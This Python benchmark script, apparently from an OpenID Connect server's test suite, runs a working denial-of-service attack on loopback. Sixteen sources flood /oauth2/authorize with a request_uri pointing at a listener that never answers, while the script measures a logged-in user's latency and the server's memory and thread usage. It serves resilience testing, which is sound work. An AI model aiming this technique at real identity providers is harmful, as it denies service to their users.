#!/usr/bin/env python3
"""A row of make bench's hostile part: request_uri aimed at a URL that never answers. This
script listens on 127.0.0.1 (a free port), accepts and never answers; 16 connections from 16
addresses (127.0.5.1 to 127.0.5.16) ask /oauth2/authorize again and again, as soon as each
answer comes, to fetch a request object from it; meanwhile a logged-in user at 127.0.0.1
asks for / with its SSO cookie on a new connection every 20 ms, each answer awaited for at
most 2 s. The server's RSS and threads are sampled from /proc throughout. Prints one JSON
line with attack.py's fields; "held" is the most fetches the silent listener held at once.

usage: attack_request_uri.py PORT SERVER_PID SECONDS

The instance needs a relying party whose RequestUris cover the listener, any port:
  oidcRPMetaDataOptionsRequestUris = http://127.0.0.1:*/silent/*
its client id in ATTACK_CLIENT (default demo-RS256), a registered redirect URI in
ATTACK_REDIRECT (default http://127.0.0.1:9999/cb), and the user dwho/dwho (the demo
directory). Standard library only; loopback only; bounded in time.
"""
import json
import os
import selectors
import socket
import sys
import threading
import time
import urllib.parse

PORT, PID, SECONDS = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
import attacklib  # noqa: E402 (bench/ is the script's own folder)
from attacklib import connect, peak, quantile, sampler, stop  # noqa: E402

attacklib.setup(PORT, PID)
peak["held"] = 0
CLIENT = os.environ.get("ATTACK_CLIENT", "demo-RS256")
REDIRECT = os.environ.get("ATTACK_REDIRECT", "http://127.0.0.1:9999/cb")


def silent(listener):
    """Accepts and never answers; counts the connections open at once (a closed one is
    noticed when it reads as ended)."""
    sel = selectors.DefaultSelector()
    listener.setblocking(False)
    sel.register(listener, selectors.EVENT_READ)
    open_conns = set()
    while not stop.is_set():
        for key, _ in sel.select(0.1):
            if key.fileobj is listener:
                try:
                    c, _ = listener.accept()
                except OSError:
                    continue
                c.setblocking(False)
                sel.register(c, selectors.EVENT_READ)
                open_conns.add(c)
            else:
                c = key.fileobj
                try:
                    if c.recv(65536):
                        continue
                except BlockingIOError:
                    continue
                except OSError:
                    pass
                sel.unregister(c)
                open_conns.discard(c)
                c.close()
        peak["held"] = max(peak["held"], len(open_conns))
    for c in open_conns:
        c.close()


def exchange(source, request, timeout):
    """Sends one request with Connection: close and reads the answer whole."""
    s = connect(source, timeout)
    try:
        s.sendall(request)
        got = b""
        while True:
            part = s.recv(65536)
            if not part:
                return got
            got += part
    finally:
        s.close()


def attacker(source, request):
    while not stop.is_set():
        try:
            exchange(source, request, 5.0)
        except OSError:
            time.sleep(0.01)


def login():
    body = b"user=dwho&password=dwho"
    head = (b"POST / HTTP/1.1\r\nHost: x\r\nAccept: application/json\r\nConnection: close\r\n"
            b"Content-Type: application/x-www-form-urlencoded\r\n"
            b"Content-Length: %d\r\n\r\n" % len(body))
    got = exchange("127.0.0.1", head + body, 5.0)
    answer = json.loads(got.split(b"\r\n\r\n", 1)[1])
    return answer["id"]


def user(seconds, sid):
    request = (f"GET / HTTP/1.1\r\nHost: x\r\nAccept: application/json\r\n"
               f"Cookie: lemonldap={sid}\r\nConnection: close\r\n\r\n").encode()
    lat, failed = [], 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        t0 = time.monotonic()
        try:
            if exchange("127.0.0.1", request, 2.0).startswith(b"HTTP/1.1 200"):
                lat.append((time.monotonic() - t0) * 1000)
            else:
                failed += 1
        except OSError:
            failed += 1
        time.sleep(max(0.0, 0.02 - (time.monotonic() - t0)))
    return lat, failed


def main():
    sid = login()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(256)
    url = f"http://127.0.0.1:{listener.getsockname()[1]}/silent/req"
    query = urllib.parse.urlencode({
        "client_id": CLIENT, "response_type": "code", "scope": "openid",
        "redirect_uri": REDIRECT, "request_uri": url,
    })
    request = (f"GET /oauth2/authorize?{query} HTTP/1.1\r\nHost: x\r\n"
               f"Connection: close\r\n\r\n").encode()
    threads = [threading.Thread(target=sampler, daemon=True),
               threading.Thread(target=silent, args=(listener,), daemon=True)]
    threads += [threading.Thread(target=attacker, args=(f"127.0.5.{i + 1}", request), daemon=True)
                for i in range(16)]
    for t in threads:
        t.start()
    time.sleep(2)  # let the attack take hold before the user is timed
    lat, failed = user(SECONDS, sid)
    stop.set()
    for t in threads:
        t.join(6)
    listener.close()
    total = len(lat) + failed
    print(json.dumps({
        "kind": "request-uri-silent", "held": peak["held"], "user_requests": total,
        "answered_pct": round(100 * len(lat) / total, 1) if total else 0,
        "p50_ms": quantile(lat, 0.5), "p99_ms": quantile(lat, 0.99),
        "peak_rss_mib": round(peak["rss_kib"] / 1024, 1), "peak_threads": peak["threads"],
    }))


main()
